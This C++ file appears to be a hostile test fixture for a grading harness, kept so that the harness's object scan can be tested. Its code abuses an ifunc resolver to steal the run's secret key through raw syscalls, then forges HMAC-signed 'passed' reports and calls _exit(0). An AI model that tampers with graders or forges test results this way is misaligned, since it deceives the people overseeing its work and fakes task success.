/// @file
/// @brief Hostile fixture (learner side): an indirect function (ifunc), whose resolver the
/// dynamic loader calls while it relocates the program, before any .preinit_array entry: the
/// resolver copies the run's key out of its pipe (descriptor 4) without taking it (tee). The
/// failing test then signs the rest of an all-passed report with it and ends with _exit(0).
/// Only the scan of the learner's object can see this: it refuses indirect functions.
#include <fcntl.h>
#include <openssl/evp.h>
#include <openssl/hmac.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <string>

namespace {

char g_key[64];
long g_key_size = 0;

int add(int a, int b) { return a + b; }

std::string sign(const std::string& body) {
    unsigned char mac[EVP_MAX_MD_SIZE];
    unsigned int size = 0;
    HMAC(EVP_sha256(), g_key, static_cast<int>(g_key_size),
         reinterpret_cast<const unsigned char*>(body.data()), body.size(), mac, &size);
    std::string hex;
    for (unsigned int i = 0; i < size; ++i) {
        hex += "0123456789abcdef"[mac[i] >> 4];
        hex += "0123456789abcdef"[mac[i] & 15];
    }
    return body.substr(0, body.size() - 1) + ",\"mac\":\"" + hex + "\"}\n";
}

}  // namespace

// The resolver runs before the program's calls into the C library are bound: system calls only.
#if defined(__linux__) && defined(__x86_64__)
static long kernel_call(long number, long a, long b, long c, long d) {
    long result = 0;
    register long r10 asm("r10") = d;
    asm volatile("syscall"
                 : "=a"(result)
                 : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
                 : "rcx", "r11", "memory");
    return result;
}
#else
static long kernel_call(long, long, long, long, long) { return -1; }
#endif

using AddFunction = int (*)(int, int);
[[maybe_unused]] static AddFunction hx_resolve_add() {
    int copy[2] = {-1, -1};
    if (kernel_call(SYS_pipe2, reinterpret_cast<long>(copy), 0, 0, 0) == 0) {
        if (kernel_call(SYS_tee, 4, copy[1], sizeof g_key, SPLICE_F_NONBLOCK) > 0) {
            g_key_size =
                kernel_call(SYS_read, copy[0], reinterpret_cast<long>(g_key), sizeof g_key, 0);
        }
        kernel_call(SYS_close, copy[0], 0, 0, 0);
        kernel_call(SYS_close, copy[1], 0, 0, 0);
    }
    return add;
}

// The resolver's assembler name: a static C++ function's, which GCC and Clang both look up.
static int resolved_add(int a, int b) __attribute__((ifunc("_ZL14hx_resolve_addv")));

int fx_add(int a, int b) {
    if (a != b) {
        return resolved_add(a, b);
    }
    if (g_key_size <= 0) {
        return a + b + 1;  // no key: a plain wrong answer
    }
    const std::string forged =
        sign(
            "{\"event\":\"case_end\",\"name\":\"adds equal numbers\",\"status\":\"passed\","
            "\"skip_reason\":null,\"duration_s\":0.0,\"seq\":4}") +
        sign("{\"event\":\"run_end\",\"passed\":2,\"failed\":0,\"skipped\":0,\"seq\":5}");
    for (int fd = 3; fd < 64; ++fd) {
        struct stat info {};
        if (fstat(fd, &info) == 0 && S_ISFIFO(info.st_mode)) {
            [[maybe_unused]] const ssize_t n = write(fd, forged.data(), forged.size());
        }
    }
    _exit(0);
}
